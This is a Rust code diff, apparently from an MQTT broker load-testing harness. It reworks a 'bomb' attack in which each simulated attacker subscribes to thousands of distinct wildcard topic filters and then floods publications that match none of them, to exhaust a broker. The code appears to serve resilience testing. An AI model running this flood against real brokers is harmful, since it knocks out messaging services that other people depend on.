@@ -7,7 +7,7 @@ use std::time::Duration;
 use columba_proto::packet::{Connect, ConnectProperties, Publish, PublishProperties};
 use columba_proto::{PacketId, QoS, TopicName, Version};
 
-use super::{Attack, Target};
+use super::{Attack, Attacker, Target};
 use crate::load::{LoadError, SessionKind, frames, tls_first_words};
 
 /// When a voice is heard again, once what it has said is written.
@@ -39,8 +39,10 @@ const DRIP: Duration = Duration::from_millis(700);
 const BREATH: usize = 64 * 1024;
 /// Filters in one SUBSCRIBE.
 const FILTERS_PER_PACKET: u32 = 500;
-/// Levels of the filters of the bomb that are either a word or a wildcard: 8,192 in all.
-const BOMB_LEVELS: u32 = 13;
+/// Levels of the filters of the bomb that are either a word or a wildcard: room for 131,072 filters.
+const BOMB_LEVELS: u32 = 17;
+/// Filters of one attacker: what one session may have, all different from those of the others.
+const BOMB_FILTERS: u32 = 10_000;
 /// Bytes of a packet that is nearly the largest one that brokers take.
 const NEARLY_WHOLE: usize = 2 * 1024 * 1024 - 64;
 /// Retained messages of one attacker.
@@ -63,7 +65,8 @@ pub(super) fn says_yes(answer: &[u8]) -> bool {
 }
 
 /// The part of one connection that was begun so often before.
-pub(super) fn part(attack: Attack, target: &Target, number: usize, life: u32) -> Result<Part, LoadError> {
+pub(super) fn part(attacker: Attacker<'_>, number: usize, life: u32) -> Result<Part, LoadError> {
+    let Attacker { attack, target, .. } = attacker;
     let name = format!("attacker-{}-{number}", std::process::id());
     let part = |address, voice| Part { address, reads: true, voice };
     Ok(match attack {
@@ -227,30 +230,23 @@ fn user_properties(number: u64, out: &mut Vec<u8>) {
     publish(Version::V5, &at_most_once("attack/properties", b"x", properties), out);
 }
 
-/// 8,192 filters, and publications that walk through all of them and reach none.
+/// Filters of which each matches any beginning of the topics, and publications without a pause that walk through those of all attackers and reach none.
 fn bomb(name: &str, number: usize) -> Voice {
-    let filters = 1u32 << BOMB_LEVELS;
     let filter = move |number: u32| {
         let levels = (0..BOMB_LEVELS).map(|level| if number >> level & 1 == 1 { "+/" } else { "b/" });
         levels.collect::<String>() + "end"
     };
-    let mut out = frames::connect(Version::V311, name, SessionKind::Clean);
-    for from in (0..filters).step_by(FILTERS_PER_PACKET as usize) {
-        let to = filters.min(from + FILTERS_PER_PACKET);
-        let filters: Vec<String> = (from..to).map(filter).collect();
-        out.extend(frames::subscribe(Version::V311, &filters, QoS::AtMostOnce));
+    let first_filter = u32::try_from(number).unwrap_or(0).wrapping_mul(BOMB_FILTERS);
+    let mut first = frames::connect(Version::V311, name, SessionKind::Clean);
+    for from in (0..BOMB_FILTERS).step_by(FILTERS_PER_PACKET as usize) {
+        let to = BOMB_FILTERS.min(from + FILTERS_PER_PACKET);
+        let filters: Vec<String> = (from..to).map(|place| filter(first_filter.wrapping_add(place))).collect();
+        first.extend(frames::subscribe(Version::V311, &filters, QoS::AtMostOnce));
     }
     let path = "b/".repeat(BOMB_LEVELS as usize);
-    let mut first = Some(out);
-    let mut turn = 0;
-    Box::new(move |out| {
-        if let Some(first) = first.take() {
-            out.extend(first);
-        }
-        turn += 1;
+    flood(first, move |turn, out| {
         let topic = format!("{path}{number}-{turn}");
         publish(Version::V311, &at_most_once(&topic, b"x", PublishProperties::default()), out);
-        Next::After(Duration::from_millis(10))
     })
 }
 
